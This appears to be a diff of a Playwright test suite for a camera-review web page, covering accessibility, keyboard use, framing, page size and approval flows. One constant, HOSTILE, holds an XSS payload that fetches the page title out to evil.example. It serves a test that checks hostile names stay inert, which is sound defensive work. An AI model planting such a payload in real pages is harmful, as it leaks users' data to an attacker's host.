@@ -2,23 +2,27 @@
 
 from __future__ import annotations
 
-import gzip
 import json
 import re
 from collections.abc import Callable
+from itertools import pairwise
 from typing import Any
 
 import pytest
 from in_chromium import axe_faults
-from page_stub import CODE, PAGE, TONES, Stub, camera, four, served, zone
+from page_stub import CODE, PAGE, Stub, served
+from page_values import camera, zone
 from playwright.sync_api import Browser, Page, expect
+
+from agent.onsite.ui import documents
 
 Opening = Callable[..., Page]
 HOSTILE = "<img src=x onerror=fetch('//evil.example/'+document.title)>\"'</script><script>alert(1)</script>"
+PHONE: dict[str, Any] = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
 LOOKS: dict[str, dict[str, Any]] = {
     "light, English": {"lang": "en", "color_scheme": "light"},
     "dark, Chinese": {"lang": "zh_CN", "color_scheme": "dark"},
-    "dark, on a phone": {"lang": "en", "color_scheme": "dark", "viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True},
+    "dark, on a phone": {"lang": "en", "color_scheme": "dark", **PHONE},
     "Chinese, 400 % zoom": {"lang": "zh_CN", "color_scheme": "light", "viewport": {"width": 320, "height": 256}},
 }  # fmt: skip
 PAGE_MAX_BYTES = 60 * 1024
@@ -66,7 +70,7 @@ def screens(page: Page) -> dict[str, Callable[[], object]]:
 @pytest.mark.parametrize("look", LOOKS)
 def test_axe_finds_nothing_on_any_screen_and_no_screen_scrolls_sideways(look: str, opened: Opening) -> None:
     given = dict(LOOKS[look])
-    stub = shown(four())
+    stub = shown(Stub())
     stub.lang = given.pop("lang")
     page = opened(stub, **given)
     found, wide = {}, {}
@@ -81,20 +85,20 @@ def test_axe_finds_nothing_on_any_screen_and_no_screen_scrolls_sideways(look: st
 
 
 def test_axe_does_find_what_is_wrong(opened: Opening) -> None:
-    page = opened(four())
+    page = opened(Stub())
     page.evaluate("() => document.querySelector('main').append(document.createElement('button'))")
     assert "button-name" in axe_faults(page)
 
 
 def test_what_a_finger_must_hit_is_large_enough(opened: Opening) -> None:
     """WCAG 2.2 SC 2.5.8 asks for 24 px; under a finger it is 44."""
-    small = """least => [...document.querySelectorAll('button, .corner, .bar *, .tile, input:not([type=checkbox]), select, nav a')]
+    small = """least => [...document.querySelectorAll('button, .corner, .tile, input:not([type=checkbox]), nav a')]
       .filter((one) => one.checkVisibility() && !one.closest('.skip'))
       .map((one) => [one.outerHTML.slice(0, 80), (one.querySelector('.reach') ?? one).getBoundingClientRect()])
       .filter(([, { width, height }]) => Math.min(width, height) < least - 0.5)"""
     for phone, least in ((True, 44), (False, 24)):
         look: dict[str, Any] = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
-        page = opened(four(), "#/camera/gate", **(look if phone else {}))
+        page = opened(Stub(), "#/camera/gate", **(look if phone else {}))
         page.locator("[data-key=draw]").click()
         page.wait_for_selector(".corner")
         assert page.evaluate(small, least) == []
@@ -102,11 +106,12 @@ def test_what_a_finger_must_hit_is_large_enough(opened: Opening) -> None:
 
 def test_hostile_names_stay_texts_make_no_request_and_no_console_line(opened: Opening) -> None:
     cam = camera(
-        "x", name=HOSTILE, placement=HOSTILE, words=HOSTILE, zones=[zone(HOSTILE, [[0.1, 0.1], [0.4, 0.1], [0.4, 0.4]], 0.5)],
+        "hall", name=HOSTILE, placement=HOSTILE, words=HOSTILE,
+        zones=[zone(HOSTILE, [[0.1, 0.1], [0.4, 0.1], [0.4, 0.4]], 0.5)],
         masks=[{"name": HOSTILE, "enabled": False, "polygon": [[0.1, 0.2], [0.4, 0.2], [0.4, 0.6]]}],
         device={"id": HOSTILE, "make": HOSTILE, "model": HOSTILE, "words": HOSTILE}, presets=[HOSTILE], names=[HOSTILE],
     )  # fmt: skip
-    stub = Stub({"hall": cam | {"id": "hall"}, "yard": camera("yard"), "gate": camera("gate")}, site_name=HOSTILE)
+    stub = Stub({"hall": cam, "yard": camera("yard"), "gate": camera("gate")}, site_name=HOSTILE)
     page = opened(shown(stub))
     for come in screens(page).values():
         come()
@@ -132,7 +137,7 @@ def test_no_module_makes_markup_of_texts_or_is_too_long(name: str) -> None:
 
 
 def test_another_site_cannot_frame_the_page(browser: Browser) -> None:
-    stub = four()
+    stub = Stub()
     with served(stub):
         page = browser.new_page()
         framing = f"<iframe src={stub.origin}/></iframe>"
@@ -144,7 +149,7 @@ def test_another_site_cannot_frame_the_page(browser: Browser) -> None:
 
 
 def test_the_code_leaves_the_address_and_the_key_leaves_no_trace(opened: Opening) -> None:
-    page = opened(four())
+    page = opened(Stub())
     assert CODE not in page.url and CODE not in page.evaluate(
         "() => JSON.stringify([history.state, document.cookie, {...localStorage}, {...sessionStorage}])"
     )
@@ -152,7 +157,7 @@ def test_the_code_leaves_the_address_and_the_key_leaves_no_trace(opened: Opening
 
 
 def test_a_second_tab_and_a_page_loaded_anew_are_locked_and_say_what_to_do(opened: Opening) -> None:
-    stub = four()
+    stub = Stub()
     page = opened(stub)
     second = page.context.new_page()
     second.goto(stub.url)
@@ -167,7 +172,7 @@ def test_a_second_tab_and_a_page_loaded_anew_are_locked_and_say_what_to_do(opene
 
 
 def test_a_file_changed_underneath_is_said_where_it_would_be_saved(opened: Opening) -> None:
-    stub = shown(four())
+    stub = shown(Stub())
     page = opened(stub, "#/review")
     stub.changed = True
     page.locator("[data-key=save]").click()
@@ -195,16 +200,15 @@ def test_an_approval_takes_two_keys_and_every_picture_on_the_screen(opened: Open
         expect(page.locator(".approve [role=status]")).to_have_text("All 3 pictures were on the screen.")
         page.keyboard.press("a")
         expect(page.locator(".count")).to_contain_text(str(count))
-    assert {name: body["picture"] for name, body in stub.marks.items()} == dict.fromkeys(
-        cams, {"main": "digest-main", "sub": "digest-sub", "snapshot": "digest-snapshot"}
-    )
+    digests = {path: f"digest-{path}" for path in ("main", "sub", "snapshot")}
+    assert {name: body["picture"] for name, body in stub.marks.items()} == {name: digests for name in cams}
     assert stub.saved == []
     page.keyboard.press("n")
     expect(page.locator("h1")).to_have_text("Review")
 
 
 def test_pictures_below_the_fold_are_not_approved_unseen(opened: Opening) -> None:
-    stub = four()
+    stub = Stub()
     page = opened(stub, "#/camera/gate", viewport={"width": 390, "height": 500})
     expect(page.locator(".approve [role=status]")).to_contain_text("of 3 pictures were on the screen")
     page.keyboard.press("a")
@@ -218,7 +222,7 @@ def test_pictures_below_the_fold_are_not_approved_unseen(opened: Opening) -> Non
 
 
 def test_a_failing_zone_needs_a_reason(opened: Opening) -> None:
-    stub = four()
+    stub = Stub()
     page = opened(stub, "#/camera/hall")
     expect(page.locator(".approve [role=status]")).to_have_text("All 3 pictures were on the screen.")
     page.keyboard.press("a")
@@ -231,7 +235,7 @@ def test_a_failing_zone_needs_a_reason(opened: Opening) -> None:
 
 
 def test_tab_goes_through_the_page_in_its_order(opened: Opening) -> None:
-    page = opened(four())
+    page = opened(Stub())
     page.wait_for_selector(".tile img.there")
     order = []
     page.evaluate("() => document.activeElement.blur()")
@@ -260,7 +264,7 @@ def test_tab_goes_through_the_page_in_its_order(opened: Opening) -> None:
 
 
 def test_arrows_go_from_tile_to_tile_and_single_keys_can_be_switched_off(opened: Opening) -> None:
-    page = opened(four())
+    page = opened(Stub())
     page.wait_for_selector(".tile")
     for key, name in (("ArrowRight", "yard"), ("ArrowRight", "gate"), ("ArrowLeft", "yard")):
         page.keyboard.press(key)
@@ -277,7 +281,7 @@ def test_arrows_go_from_tile_to_tile_and_single_keys_can_be_switched_off(opened:
 
 
 def test_live_asks_again_only_after_the_picture_is_painted_and_ends_with_the_screen(opened: Opening) -> None:
-    stub = four()
+    stub = Stub()
     page = opened(stub, "#/camera/gate")
     page.locator("[data-key=draw]").click()
     page.locator("[data-key=live]").click()
@@ -292,17 +296,19 @@ def test_live_asks_again_only_after_the_picture_is_painted_and_ends_with_the_scr
     ]
     assert re.fullmatch(r"(picture )+(live picture )+(live ?)?", " ".join(order) + " ")
     began = page.evaluate(
-        "() => performance.getEntriesByType('resource').filter(({ name }) => name.endsWith('/live')).map((one) => one.startTime)"
+        """() => performance.getEntriesByType('resource').filter((one) => one.name.endsWith('/live'))
+             .map((one) => one.startTime)"""
     )
-    assert all(later - sooner >= 990 for sooner, later in zip(began, began[1:], strict=False))
+    assert all(later - sooner >= 990 for sooner, later in pairwise(began))
     page.evaluate(
-        "() => { Object.defineProperty(document, 'hidden', { value: true }); document.dispatchEvent(new Event('visibilitychange')); }"
+        """() => { Object.defineProperty(document, 'hidden', { value: true });
+                   document.dispatchEvent(new Event('visibilitychange')); }"""
     )
     expect(page.locator("[data-key=live]")).to_have_attribute("aria-pressed", "false")
 
 
 def test_a_picture_older_than_a_minute_is_greyed_and_says_its_age(opened: Opening) -> None:
-    stub = four()
+    stub = Stub()
     stub.cameras["gate"]["age_s"] = 58.5
     stub.cameras["roof"]["age_s"] = None
     page = opened(stub)
@@ -312,7 +318,7 @@ def test_a_picture_older_than_a_minute_is_greyed_and_says_its_age(opened: Openin
 
 
 def test_a_program_that_is_gone_and_a_session_that_is_over_are_said(opened: Opening) -> None:
-    page = opened(four())
+    page = opened(Stub())
     page.wait_for_selector(".tile")
     page.route("**/api/**", lambda route: route.abort())
     page.keyboard.press("r")
@@ -329,7 +335,7 @@ def test_a_program_that_is_gone_and_a_session_that_is_over_are_said(opened: Open
 
 
 def test_leaving_a_drawing_asks_first(opened: Opening) -> None:
-    page = opened(four(), "#/camera/yard")
+    page = opened(Stub(), "#/camera/yard")
     page.locator("[data-key=rectangle]").focus()
     page.keyboard.press("Enter")
     asked: list[str] = []
@@ -344,7 +350,7 @@ def test_leaving_a_drawing_asks_first(opened: Opening) -> None:
 
 
 def test_who_wants_no_motion_and_forced_colours_has_a_page_all_the_same(opened: Opening) -> None:
-    page = opened(four(), reduced_motion="reduce", forced_colors="active")
+    page = opened(Stub(), reduced_motion="reduce", forced_colors="active")
     page.wait_for_selector(".tile img.there")
     assert page.evaluate("() => getComputedStyle(document.querySelector('.tile img')).transitionDuration") == "0s"
     border = "() => getComputedStyle(document.querySelector('nav [aria-current]')).borderTopWidth"
@@ -352,13 +358,13 @@ def test_who_wants_no_motion_and_forced_colours_has_a_page_all_the_same(opened: 
 
 
 def test_the_whole_page_is_small_and_nothing_of_it_comes_from_outside(opened: Opening) -> None:
-    stub = shown(four())
+    stub = shown(Stub())
     stub.lang = "zh_CN"
     page = opened(stub)
     for come in screens(page).values():
         come()
-    files = [PAGE / "index.html", PAGE / "app.css", TONES, *PAGE.glob("*.js")]
-    assert sum(len(gzip.compress(path.read_bytes(), 9)) for path in files) <= PAGE_MAX_BYTES
+    files = [(PAGE / "index.html").read_bytes(), documents.style(), *(path.read_bytes() for path in PAGE.glob("*.js"))]
+    assert sum(len(documents.packed(data)) for data in files) <= PAGE_MAX_BYTES
     assert {path for method, path, _ in stub.asked if not path.startswith("/api/")} == {
         "/",
         "/app.css",
@@ -367,7 +373,7 @@ def test_the_whole_page_is_small_and_nothing_of_it_comes_from_outside(opened: Op
 
 
 def test_a_declaration_is_a_form_and_goes_into_review(opened: Opening) -> None:
-    stub = four()
+    stub = Stub()
     page = opened(stub, "#/site")
     page.locator("summary", has_text="Scope").click()
     page.get_by_label("answer").select_option("public")
@@ -375,11 +381,13 @@ def test_a_declaration_is_a_form_and_goes_into_review(opened: Opening) -> None:
     page.get_by_label("cameras").select_option(["gate", "roof"])
     page.get_by_role("button", name="Put into Review").click()
     expect(page.locator("form [role=status]")).to_have_text("It is in Review now.")
-    assert stub.posts("/api/declare") == [{"key": "scope", "value": "public", "until": "2027-11-29", "cameras": ["gate", "roof"]}]
+    assert stub.posts("/api/declare") == [
+        {"key": "scope", "value": "public", "until": "2027-11-29", "cameras": ["gate", "roof"]}
+    ]
 
 
 def test_the_report_is_handed_to_the_downloads(opened: Opening) -> None:
-    page = opened(four(), "#/site")
+    page = opened(Stub(), "#/site")
     with page.expect_download() as waiting:
         page.get_by_role("button", name="Hand-over report").click()
     assert waiting.value.suggested_filename == "report.html" and waiting.value.path().read_bytes() == b"<p>report</p>"
